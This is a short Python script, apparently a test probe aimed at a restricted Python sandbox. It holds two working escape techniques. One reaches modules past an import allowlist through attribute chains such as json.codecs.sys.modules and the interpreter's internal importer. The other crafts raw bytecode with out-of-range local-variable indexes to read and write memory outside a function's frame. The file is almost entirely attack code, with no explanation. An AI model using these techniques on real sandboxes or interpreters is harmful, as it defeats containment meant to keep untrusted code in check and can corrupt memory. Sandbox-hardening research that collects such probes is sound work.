# trick: bytecode that reads and writes local variables from outside the frame
# want: any


def reach(name):
    """The module of that name, past the allowlist: a loaded one, else through the interpreter's own import."""
    import json
    codecs = json.codecs
    modules = codecs.sys.modules
    if modules.get(name) is None:
        try:
            codecs.builtins.__import__(name)
        except ImportError:
            modules["_frozen_importlib"]._gcd_import(name)
    print("reached", name)
    return modules[name]


def run(ctx):
    import dataclasses
    ops = dataclasses.inspect.dis.opmap

    def victim():
        return None

    results = []
    for load, index in (("LOAD_FAST", 60), ("LOAD_FAST_CHECK", 200), ("LOAD_DEREF", 100), ("STORE_FAST", 250), ("DELETE_FAST", 255)):
        body = (ops["RESUME"], 0)
        if load == "STORE_FAST":
            body += (ops["LOAD_CONST"], 0)
        body += (ops[load], index)
        if not load.startswith("LOAD"):
            body += (ops["LOAD_CONST"], 0)
        body += (ops["RETURN_VALUE"], 0)
        try:
            victim.__code__ = victim.__code__.replace(co_code=bytes(body), co_exceptiontable=b"", co_stacksize=8)
            results.append(type(victim()).__name__)
        except Exception as e:
            results.append(type(e).__name__)
    return results
